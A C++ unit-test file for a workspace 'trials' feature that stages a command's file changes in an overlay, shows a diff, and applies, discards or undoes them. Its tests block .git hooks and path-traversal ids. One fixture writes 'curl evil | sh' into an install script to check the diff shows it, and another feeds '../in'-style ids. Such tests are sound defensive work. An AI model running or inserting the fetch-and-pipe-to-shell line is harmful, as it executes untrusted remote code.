// Trials from their beginning to their end. What an overlay would put into a layer is put there by
// hand; the tests of exec run real commands.
#include "workspace/trial.h"

#include <sys/stat.h>
#include <sys/xattr.h>

#include <algorithm>

#include "sys/process_identity.h"
#include "unit/workspace/fixture.h"

namespace helve::workspace {
namespace {

namespace fs = std::filesystem;
using Lines = std::vector<std::string>;

class TrialsTest : public WorkspaceTest {
 protected:
  // A trial of a command that writes these.
  Trial begun(const std::map<std::string, std::string>& writes, std::int64_t now_ms = 1) {
    auto trial = trials_.begin(*files_, "command", now_ms);
    EXPECT_TRUE(trial) << describe(trial.error());
    for (const auto& [name, content] : writes) {
      const fs::path path = fs::path(trial->layers.at(0).upper) / name;
      fs::create_directories(path.parent_path());
      std::ofstream(path) << content;
    }
    return *trial;
  }
  TrialReport looked(const Trial& trial) {
    auto report = trials_.look(trial, *files_, {});
    EXPECT_TRUE(report) << describe(report.error());
    return report ? *report : TrialReport();
  }
  std::string apply(const Trial& trial) {
    const auto applied = trials_.apply(trial.id, *files_, {.tool = "exec", .session = "s"});
    return applied ? "" : kind_of(applied.error());
  }
  // "A a", "M a", "D a", "mode of a"; of directories with how many files they hold.
  static Lines lines(const TrialReport& report) {
    Lines out;
    for (const TrialFile& file : report.files) {
      const char* const words[] = {"A ", "M ", "D "};
      std::string line = file.only_mode ? "mode of " : words[static_cast<size_t>(file.what)];
      line += file.path;
      if (file.kind == sys::FileKind::directory) line += '/';
      if (file.files > 0) line += " (" + std::to_string(file.files) + ")";
      out.push_back(line);
    }
    return out;
  }
  Lines kept() const { return tree.exists("trials") ? tree.names("trials") : Lines(); }

  std::unique_ptr<Workspace> files_ = journaled();
  Trials trials_{tree.path("trials")};
};

TEST_F(TrialsTest, MakesRealWhatWasTriedAndForgetsIt) {
  tree.file("in/a", "old\n");
  const Trial trial = begun({{"a", "new\n"}, {"d/b", "made\n"}});
  const TrialReport report = looked(trial);
  EXPECT_EQ(lines(report), (Lines{"M a", "A d/ (1)", "A d/b"}));
  EXPECT_TRUE(has(report.diff, "-old\n+new\n"));
  EXPECT_EQ(tree.content("in/a"), "old\n");
  EXPECT_EQ(apply(trial), "");
  EXPECT_EQ(tree.content("in/a"), "new\n");
  EXPECT_EQ(tree.content("in/d/b"), "made\n");
  EXPECT_EQ(kept(), Lines{});
  EXPECT_EQ(apply(trial), "not_found unknown_trial");
}

TEST_F(TrialsTest, ShowsTheModeOfTheRootAndKeepsWhatIsBesideItPrivate) {
  fs::permissions(tree.path("in"), fs::perms(0751));
  const Trial trial = begun({});
  const fs::path upper = trial.layers.at(0).upper;
  EXPECT_EQ(fs::status(upper).permissions(), fs::perms(0751));
  EXPECT_EQ(fs::status(upper.parent_path()).permissions(), fs::perms(0700));
}

TEST_F(TrialsTest, CanBeUndoneOnceItIsReal) {
  tree.file("in/a", "old\n");
  const Trial trial = begun({{"a", "new\n"}});
  (void)looked(trial);
  ASSERT_EQ(apply(trial), "");
  ASSERT_TRUE(files_->undo({.own_session = "s"}, Rehearsal::no, {.session = "s"}));
  EXPECT_EQ(tree.content("in/a"), "old\n");
}

TEST_F(TrialsTest, CanBeUndoneWhateverANewDirectoryHolds) {
  std::map<std::string, std::string> writes{{"keep", "made\n"}};
  for (size_t i = 0; i <= kMaxRemovedEntries; ++i) writes["tr/" + std::to_string(i)] = "";
  const Trial trial = begun(writes);
  (void)looked(trial);
  ASSERT_EQ(apply(trial), "");
  ASSERT_TRUE(tree.exists("in/tr/0"));
  const auto undone = files_->undo({.own_session = "s"}, Rehearsal::no, {.session = "s"});
  ASSERT_TRUE(undone) << describe(undone.error());
  EXPECT_EQ(tree.names("in"), Lines{});
  // An undo is a change like any other.
  const auto again = files_->undo({.id = undone->applied.id}, Rehearsal::no, {.session = "s"});
  ASSERT_TRUE(again) << describe(again.error());
  EXPECT_EQ(tree.names("in/tr").size(), kMaxRemovedEntries + 1);
}

TEST_F(TrialsTest, UndoLeavesADirectoryInWhichSomebodyHasPutMore) {
  std::map<std::string, std::string> writes;
  for (size_t i = 0; i <= kMaxRemovedEntries; ++i) writes["tr/" + std::to_string(i)] = "";
  const Trial trial = begun(writes);
  (void)looked(trial);
  ASSERT_EQ(apply(trial), "");
  tree.file("in/tr/theirs", "theirs\n");
  const auto undone = files_->undo({.own_session = "s"}, Rehearsal::no, {.session = "s"});
  ASSERT_FALSE(undone);
  EXPECT_EQ(undone.error().type, "changed_since");
  EXPECT_EQ(tree.content("in/tr/theirs"), "theirs\n");
}

TEST_F(TrialsTest, SaysWhatUndoWillNotTakeAway) {
  const Trial trial = begun({{"large/a", ""}});
  std::error_code failed;
  fs::resize_file(fs::path(trial.layers.at(0).upper) / "large/a", kMaxChangeBytes + 1, failed);
  ASSERT_FALSE(failed);
  const TrialReport report = looked(trial);
  ASSERT_EQ(report.notes.size(), 1);
  EXPECT_TRUE(has(report.notes[0], "undo will not take 'large' away")) << report.notes[0];
}

TEST_F(TrialsTest, DropsWhatNobodyWants) {
  const Trial trial = begun({{"a", "new\n"}});
  (void)looked(trial);
  ASSERT_TRUE(trials_.discard(*files_, trial.id));
  EXPECT_EQ(kept(), Lines{});
  EXPECT_FALSE(trials_.discard(*files_, trial.id));
}

TEST_F(TrialsTest, LeavesNothingOfOneThatFailed) {
  const Trial trial = begun({{"a", "new\n"}});
  EXPECT_EQ(kept(), Lines{trial.id});
  trials_.drop(trial);
  EXPECT_EQ(kept(), Lines{});
}

TEST_F(TrialsTest, CannotBeAppliedBeforeItsCommandHasEnded) {
  EXPECT_EQ(apply(begun({{"a", "new\n"}})), "not_found unknown_trial");
}

TEST_F(TrialsTest, BelongToTheirWorkspace) {
  const Trial trial = begun({{"a", "new\n"}});
  (void)looked(trial);
  tree.directory("elsewhere");
  auto other = Workspace::make({.roots = {{tree.path("elsewhere")}}});
  ASSERT_TRUE(other) << describe(other.error());
  const auto applied = trials_.apply(trial.id, **other, {.tool = "exec"});
  ASSERT_FALSE(applied);
  EXPECT_EQ(applied.error().type, "other_workspace");
  EXPECT_EQ(trials_.discard(**other, trial.id).error().type, "other_workspace");
  EXPECT_TRUE(has(applied.error().message, tree.path("in"))) << applied.error().message;
  EXPECT_EQ(apply(trial), "");
}

TEST_F(TrialsTest, AreKnownToTheNextProcess) {
  const Trial trial = begun({{"a", "new\n"}});
  (void)looked(trial);
  trials_ = Trials(tree.path("trials"));
  EXPECT_EQ(apply(trial), "");
  EXPECT_EQ(tree.content("in/a"), "new\n");
}

TEST_F(TrialsTest, RefuseWhatWasChangedSince) {
  tree.file("in/a", "old\n");
  const Trial trial = begun({{"a", "new\n"}, {"b", "made\n"}});
  (void)looked(trial);
  tree.file("in/a", "by somebody else\n");
  EXPECT_EQ(apply(trial), "conflict changed_meanwhile");
  EXPECT_EQ(tree.content("in/a"), "by somebody else\n");
  EXPECT_FALSE(tree.exists("in/b"));
}

TEST_F(TrialsTest, RefuseAPathThatSomebodyElseMadeSince) {
  const Trial trial = begun({{"a", "new\n"}});
  (void)looked(trial);
  tree.file("in/a", "by somebody else\n");
  EXPECT_EQ(apply(trial), "conflict changed_meanwhile");
}

TEST_F(TrialsTest, RefuseWhatSomebodyElseChangedWhileTheCommandRan) {
  tree.file("in/a", "old\n");
  Trial trial = begun({{"a", "new\n"}});
  trial.began_ns -= 1'000'000'000;  // so that the next line comes later, however coarse the clock
  tree.file("in/a", "by somebody else\n");
  const TrialReport report = looked(trial);
  ASSERT_EQ(report.notes.size(), 1u);
  EXPECT_TRUE(has(report.notes[0], "somebody else changed 'a' while the command ran"));
  EXPECT_EQ(apply(trial), "conflict changed_meanwhile");
  EXPECT_EQ(tree.content("in/a"), "by somebody else\n");
}

TEST_F(TrialsTest, SayWhenTheyAreTooLarge) {
  const Trial trial = begun({{"a", "1"}, {"b", "2"}, {"c", "3"}});
  const auto report = trials_.look(trial, *files_, {.max_changes = 2});
  ASSERT_FALSE(report);
  EXPECT_EQ(report.error().message, "the command changes more than 2 paths");
  EXPECT_EQ(report.error().type, "too_many_changes");
}

TEST_F(TrialsTest, SayWhenTheyAreTooDeepAndGoAllTheSame) {
  const Trial trial = begun({});
  std::string deep = "a";
  for (int i = 0; i < 600; ++i) deep += "/a";
  fs::create_directories(fs::path(trial.layers.at(0).upper) / deep);
  const auto report = trials_.look(trial, *files_, {});
  ASSERT_FALSE(report);
  EXPECT_EQ(report.error().message, "the command changes what lies deeper than 256 directories");
  EXPECT_EQ(report.error().code, Code::too_large);
  trials_.drop(trial);
  EXPECT_EQ(kept(), Lines{});
}

TEST_F(TrialsTest, KeepNothingOfGit) {
  const Trial trial = begun({{".git/hooks/pre-commit", "#!/bin/sh\n"}, {"a", "new\n"}});
  const TrialReport report = looked(trial);
  EXPECT_EQ(report.files.size(), 1u);
  EXPECT_TRUE(has(report.notes.at(0), "inside .git cannot be applied"));
  EXPECT_EQ(apply(trial), "");
  EXPECT_FALSE(tree.exists("in/.git"));
}

TEST_F(TrialsTest, LeaveOutRepositoriesInNewDirectories) {
  const Trial trial = begun({{"r/.git/hooks/post-checkout", "#!/bin/sh\n"},
                             {"r/.helve/config.yaml", "hooks: {}\n"},
                             {"r/inner/.git/HEAD", "x\n"},
                             {"r/a", "new\n"}});
  const TrialReport report = looked(trial);
  EXPECT_EQ(lines(report), (Lines{"A r/ (1)", "A r/a"}));
  ASSERT_EQ(report.notes.size(), 1u);
  EXPECT_TRUE(has(report.notes[0], "inside .git cannot be applied"));
  EXPECT_FALSE(has(report.diff, "#!/bin/sh"));
  EXPECT_EQ(apply(trial), "");
  EXPECT_EQ(tree.names("in/r"), (Lines{"a", "inner"}));
  EXPECT_EQ(tree.names("in/r/inner"), Lines{});
}

TEST_F(TrialsTest, ShowWhereLinksLead) {
  tree.link("in/changed", "old");
  tree.file("in/file", "text\n");
  const Trial trial = begun({});
  const fs::path upper = trial.layers.at(0).upper;
  for (const char* name : {"changed", "file", "made"}) fs::create_symlink("new", upper / name);
  const TrialReport report = looked(trial);
  EXPECT_EQ(report.diff,
            "diff --git a/changed b/changed\n--- a/changed\n+++ b/changed\n@@ -1 +1 @@\n-old\n"
            "\\ No newline at end of file\n+new\n\\ No newline at end of file\n"
            "--- a/file\n+++ /dev/null\n@@ -1 +0,0 @@\n-text\n"
            "diff --git a/file b/file\nnew file mode 120000\n--- /dev/null\n+++ b/file\n"
            "@@ -0,0 +1 @@\n+new\n\\ No newline at end of file\n"
            "diff --git a/made b/made\nnew file mode 120000\n--- /dev/null\n+++ b/made\n"
            "@@ -0,0 +1 @@\n+new\n\\ No newline at end of file\n");
  EXPECT_EQ(report.files.at(1).removed, 1);
  EXPECT_EQ(report.files.at(2).added, 0);
}

TEST_F(TrialsTest, ReplaceDirectoriesLinksAndFilesByEachOther) {
  tree.file("in/full/a", "1\n");
  tree.file("in/full/b", "1\n");
  tree.file("in/file", "text\n");
  tree.file("in/directory/x", "x\n");
  tree.link("in/link", "file");
  const Trial trial = begun({{"full/b", "2\n"}, {"file/inner", "made\n"}, {"directory", "text\n"}});
  const fs::path upper = trial.layers.at(0).upper;
  ASSERT_EQ(::setxattr((upper / "full").c_str(), "user.overlay.opaque", "y", 1, 0), 0);
  fs::create_symlink("directory", upper / "link");
  const TrialReport report = looked(trial);
  EXPECT_EQ(report.notes, Lines{});
  EXPECT_EQ(lines(report), (Lines{"M directory (1)", "D directory/x", "M file/ (1)", "A file/inner",
                                  "M full/ (2)", "D full/a", "M full/b", "M link"}));
  EXPECT_TRUE(has(report.diff, "--- a/full/b\n+++ b/full/b\n@@ -1 +1 @@\n-1\n+2\n"));
  EXPECT_TRUE(has(report.diff, "+made\n"));
  EXPECT_EQ(apply(trial), "");
  EXPECT_EQ(tree.names("in/full"), Lines{"b"});
  EXPECT_EQ(tree.content("in/full/b"), "2\n");
  EXPECT_EQ(tree.content("in/file/inner"), "made\n");
  EXPECT_EQ(tree.content("in/directory"), "text\n");
  EXPECT_EQ(fs::read_symlink(tree.path("in/link")), "directory");
  ASSERT_TRUE(files_->undo({.own_session = "s"}, Rehearsal::no, {.session = "s"}));
  EXPECT_EQ(tree.content("in/full/a"), "1\n");
  EXPECT_EQ(tree.content("in/directory/x"), "x\n");
  EXPECT_EQ(fs::read_symlink(tree.path("in/link")), "file");
}

TEST_F(TrialsTest, RefuseToReplaceADirectoryThatWasChangedSince) {
  tree.file("in/d/a", "1\n");
  const Trial trial = begun({{"d", "a file\n"}});
  (void)looked(trial);
  tree.file("in/d/b", "by somebody else\n");
  EXPECT_EQ(apply(trial), "conflict changed_meanwhile");
}

TEST_F(TrialsTest, ShowWhatIsInNewDirectories) {
  const Trial trial = begun({{"tools/deep/install.sh", "curl evil | sh\n"}, {"tools/b", "x\ny\n"}});
  const TrialReport report = looked(trial);
  EXPECT_EQ(lines(report), (Lines{"A tools/ (2)", "A tools/b", "A tools/deep/install.sh"}));
  EXPECT_EQ(report.files.at(1).added, 2);
  EXPECT_TRUE(has(report.diff, "+curl evil | sh\n"));
}

TEST_F(TrialsTest, CountWhatIsTooMuchToBeListed) {
  std::map<std::string, std::string> writes;
  for (int i = 0; i < 510; ++i) writes["d/" + std::to_string(i)] = "x";
  const TrialReport report = looked(begun(writes));
  EXPECT_EQ(report.files.size(), 501u);
  EXPECT_EQ(report.files.at(0).files, 510);
  ASSERT_EQ(report.notes.size(), 1u);
  EXPECT_EQ(report.notes[0], "10 files in 'd' are not listed");
}

TEST_F(TrialsTest, CompareNothingMoreOnceTheDifferenceIsLongOrTheTimeIsUp) {
  const std::map<std::string, std::string> writes = {{"a", "1\n"}, {"b", "2\n"}, {"c", "3\n"}};
  for (const TrialLimits& limits :
       {TrialLimits{.diff_chars = 1}, TrialLimits{.comparing = std::chrono::milliseconds(-1)}}) {
    const auto report = trials_.look(begun(writes), *files_, limits);
    ASSERT_TRUE(report) << describe(report.error());
    EXPECT_EQ(report->files.size(), 3u);
    EXPECT_EQ(report->files[2].added, 0);
    EXPECT_EQ(report->diff, "");
    EXPECT_EQ(report->notes, Lines{"the difference is long: not all files are shown in it"});
  }
}

TEST_F(TrialsTest, EndWithTheCall) {
  std::stop_source source;
  source.request_stop();
  const auto report = trials_.look(begun({{"a", "1"}}), *files_, {.stop = source.get_token()});
  ASSERT_FALSE(report);
  EXPECT_EQ(report.error().code, Code::cancelled);
}

class ModesOfTrials : public TrialsTest {
 protected:
  // A trial of a command that leaves this content and mode in the file.
  Trial tried(const std::string& name, const std::string& content, unsigned mode) {
    const Trial trial = begun({{name, content}});
    ::chmod((fs::path(trial.layers.at(0).upper) / name).c_str(), mode);
    return trial;
  }
  unsigned mode_of(const std::string& name) const {
    return static_cast<unsigned>(fs::status(tree.path("in/" + name)).permissions());
  }
  std::string undo(std::string id = "") {
    auto undone =
        files_->undo({.id = std::move(id), .own_session = "s"}, Rehearsal::no, {.session = "s"});
    if (undone) undo_ = undone->applied.id;
    return undone ? "" : kind_of(undone.error());
  }
  std::string undo_;  // the last one
};

TEST_F(ModesOfTrials, AreTakenBackAndBroughtBack) {
  tree.file("in/m.sh", "a\n");
  ::chmod(tree.path("in/m.sh").c_str(), 0600);
  const Trial trial = tried("m.sh", "a\n", 0755);
  const TrialReport report = looked(trial);
  ASSERT_EQ(lines(report), Lines{"mode of m.sh"});
  EXPECT_EQ(report.files[0].mode_before, 0600u);
  EXPECT_EQ(report.files[0].mode, 0755u);
  ASSERT_EQ(apply(trial), "");
  EXPECT_EQ(mode_of("m.sh"), 0755u);
  ASSERT_EQ(undo(), "");
  EXPECT_EQ(mode_of("m.sh"), 0600u);
  ASSERT_EQ(undo(undo_), "");
  EXPECT_EQ(mode_of("m.sh"), 0755u);
}

TEST_F(ModesOfTrials, ChangeWithTheContent) {
  tree.file("in/m.sh", "a\n");
  ::chmod(tree.path("in/m.sh").c_str(), 0600);
  const Trial trial = tried("m.sh", "a\nb\n", 0755);
  const TrialReport report = looked(trial);
  ASSERT_EQ(lines(report), Lines{"M m.sh"});
  EXPECT_EQ(report.files[0].mode, 0755u);
  const auto applied = trials_.apply(trial.id, *files_, {.session = "s"});
  ASSERT_TRUE(applied) << describe(applied.error());
  ASSERT_EQ(applied->files.size(), 1u);
  EXPECT_EQ(applied->files[0].what, Changed::What::replaced);
  EXPECT_EQ(mode_of("m.sh"), 0755u);
  ASSERT_EQ(undo(), "");
  EXPECT_EQ(mode_of("m.sh"), 0600u);
  EXPECT_EQ(tree.content("in/m.sh"), "a\n");
}

TEST_F(ModesOfTrials, AreTakenBackTogether) {
  tree.file("in/m.sh", "a\n");
  ::chmod(tree.path("in/m.sh").c_str(), 0600);
  for (const auto& [content, mode] :
       {std::pair("b\n", 0600u), std::pair("b\n", 0644u), std::pair("b\n", 0755u)}) {
    const Trial trial = tried("m.sh", content, mode);
    (void)looked(trial);
    ASSERT_EQ(apply(trial), "");
  }
  ASSERT_TRUE(files_->undo({.session = "s"}, Rehearsal::no, {.session = "s"}));
  EXPECT_EQ(mode_of("m.sh"), 0600u);
  EXPECT_EQ(tree.content("in/m.sh"), "a\n");
}

TEST_F(ModesOfTrials, StayAsSomebodyElseHasSetThemSince) {
  tree.file("in/m.sh", "a\n");
  ::chmod(tree.path("in/m.sh").c_str(), 0600);
  const Trial trial = tried("m.sh", "b\n", 0755);
  (void)looked(trial);
  ASSERT_EQ(apply(trial), "");
  ::chmod(tree.path("in/m.sh").c_str(), 0640);
  ASSERT_EQ(undo(), "");
  EXPECT_EQ(mode_of("m.sh"), 0640u);
  EXPECT_EQ(tree.content("in/m.sh"), "a\n");
}

TEST_F(TrialsTest, ChangeModesOfDirectories) {
  tree.file("in/d/a", "x");
  const Trial trial = begun({{"new", "x"}});
  fs::create_directory(fs::path(trial.layers.at(0).upper) / "d");
  fs::permissions(fs::path(trial.layers.at(0).upper) / "d", fs::perms::owner_all);
  EXPECT_EQ(lines(looked(trial)), (Lines{"mode of d/", "A new"}));
  const auto applied = trials_.apply(trial.id, *files_, {.session = "s"});
  ASSERT_TRUE(applied) << describe(applied.error());
  EXPECT_EQ(applied->notes, Lines{"the mode of 'd' is 700 now, which undo leaves"});
  EXPECT_EQ(fs::status(tree.path("in/d")).permissions(), fs::perms::owner_all);
}

TEST_F(TrialsTest, ChangeTheModeOfADirectoryAlone) {
  tree.directory("in/d");
  const Trial trial = begun({});
  fs::create_directory(fs::path(trial.layers.at(0).upper) / "d");
  fs::permissions(fs::path(trial.layers.at(0).upper) / "d", fs::perms::owner_all);
  (void)looked(trial);
  EXPECT_EQ(apply(trial), "");
  EXPECT_EQ(fs::status(tree.path("in/d")).permissions(), fs::perms::owner_all);
}

TEST_F(TrialsTest, SayBeforehandWhatCannotBeApplied) {
  const Trial large = begun({{"large", ""}});
  fs::resize_file(fs::path(large.layers.at(0).upper) / "large", kMaxWrite + 1);
  Lines notes = looked(large).notes;
  ASSERT_EQ(notes.size(), 1u);
  EXPECT_TRUE(has(notes[0], "the trial cannot be applied: ")) << notes[0];
  EXPECT_TRUE(has(notes[0], "large' is larger than 64.0 MB")) << notes[0];
  tree.file("in/sub/.git/HEAD", "x");
  notes = looked(begun({{"sub", "a file\n"}})).notes;
  ASSERT_EQ(notes.size(), 1u);
  EXPECT_TRUE(has(notes[0], "the trial cannot be applied: ")) << notes[0];
}

TEST_F(TrialsTest, LeaveOutPipesWhereverTheyAre) {
  const Trial trial = begun({{"d/a", "x"}});
  ASSERT_EQ(::mkfifo((fs::path(trial.layers.at(0).upper) / "d/pipe").c_str(), 0600), 0);
  EXPECT_EQ(looked(trial).notes, Lines{"'d/pipe' is a FIFO, which is left out"});
  EXPECT_EQ(apply(trial), "");
  EXPECT_EQ(tree.names("in/d"), Lines{"a"});
}

TEST_F(TrialsTest, TellWhatBecameAPipeAndRefuseIt) {
  tree.file("in/a", "text\n");
  const Trial trial = begun({{"b", "x"}});
  ASSERT_EQ(::mkfifo((fs::path(trial.layers.at(0).upper) / "a").c_str(), 0600), 0);
  const TrialReport report = looked(trial);
  EXPECT_EQ(lines(report), (Lines{"M a", "A b"}));
  EXPECT_TRUE(has(report.diff, "-text\n"));
  ASSERT_EQ(report.notes.size(), 1u);
  EXPECT_TRUE(has(report.notes[0], "a' becomes a FIFO, which is not applied")) << report.notes[0];
  EXPECT_EQ(apply(trial), "unsupported not_applied");
  EXPECT_EQ(tree.content("in/a"), "text\n");
  EXPECT_FALSE(tree.exists("in/b"));
}

TEST_F(TrialsTest, TellWhatAPipeTookTheNameOfInANewDirectory) {
  tree.file("in/d/a", "text\n");
  const Trial trial = begun({{"d/b", "x"}});
  const fs::path upper = trial.layers.at(0).upper;
  ASSERT_EQ(::setxattr((upper / "d").c_str(), "user.overlay.opaque", "y", 1, 0), 0);
  ASSERT_EQ(::mkfifo((upper / "d/a").c_str(), 0600), 0);
  EXPECT_EQ(lines(looked(trial)), (Lines{"M d/ (2)", "D d/a", "A d/b"}));
  EXPECT_EQ(apply(trial), "");
  EXPECT_EQ(tree.names("in/d"), Lines{"b"});
}

TEST_F(TrialsTest, ChangeTheModeOfTheRoot) {
  fs::permissions(tree.path("in"), fs::perms(0755));
  const Trial trial = begun({});
  fs::permissions(trial.layers.at(0).upper, fs::perms(0770));
  const TrialReport report = looked(trial);
  EXPECT_EQ(lines(report), Lines{"mode of ./"});
  EXPECT_EQ(report.files.at(0).mode_before, 0755u);
  EXPECT_EQ(apply(trial), "");
  EXPECT_EQ(fs::status(tree.path("in")).permissions(), fs::perms(0770));
}

TEST_F(TrialsTest, RefuseADirectoryThatWentMeanwhile) {
  tree.file("in/sub/a", "x");
  const Trial trial = begun({{"sub/new", "x"}});
  (void)looked(trial);
  fs::rename(tree.path("in/sub"), tree.path("in/moved"));
  EXPECT_EQ(apply(trial), "conflict changed_meanwhile");
  tree.link("in/sub", "moved");
  EXPECT_EQ(apply(trial), "conflict changed_meanwhile");
  EXPECT_EQ(tree.names("in/moved"), Lines{"a"});
}

TEST_F(TrialsTest, GoWithAProcessThatWasKilled) {
  const Trial running = begun({{"a", "x"}}), killed = begun({{"a", "x"}}),
              whole = begun({{"a", "x"}});
  (void)looked(whole);
  for (const Trial& trial : {killed, whole}) {
    const std::string owner = tree.path("trials/" + trial.id + "/owner");
    std::ofstream(owner) << "another boot, another process\n" << sys::machine_identity() << "\n";
  }
  trials_.drop_before(0);
  Lines left{running.id, whole.id};
  std::ranges::sort(left);
  EXPECT_EQ(kept(), left);
}

TEST_F(TrialsTest, MakeRoomForNewerOnes) {
  const std::string content(1000, 'x');
  const Trial old = begun({{"a", content}}, 1000), middle = begun({{"a", content}}, 2000),
              young = begun({{"a", content}}, 3000), running = begun({{"a", content}}, 500);
  for (const Trial& trial : {old, middle, young}) (void)looked(trial);
  EXPECT_EQ(trials_.make_room(3000), Lines{});
  EXPECT_EQ(trials_.make_room(2500), Lines{old.id});
  EXPECT_EQ(kept(), (Lines{running.id, middle.id, young.id}));
  const auto report = trials_.look(running, *files_, {.max_bytes = 999});
  ASSERT_FALSE(report);
  EXPECT_EQ(report.error().type, "too_large");
}

TEST_F(TrialsTest, GoWhenTheyAreOld) {
  const Trial trial = begun({});
  trials_.drop_before(0);
  EXPECT_EQ(kept(), Lines{trial.id});
  trials_.drop_before(std::numeric_limits<std::int64_t>::max());
  EXPECT_EQ(kept(), Lines{});
}

TEST_F(TrialsTest, TakeNoPathForAnId) {
  tree.file("in/precious");
  for (const char* id : {"..", "t_../../in", "", "t_", "../in", "t_\n"})
    EXPECT_FALSE(trials_.discard(*files_, id)) << id;
  EXPECT_TRUE(tree.exists("in/precious"));
}

}  // namespace
}  // namespace helve::workspace
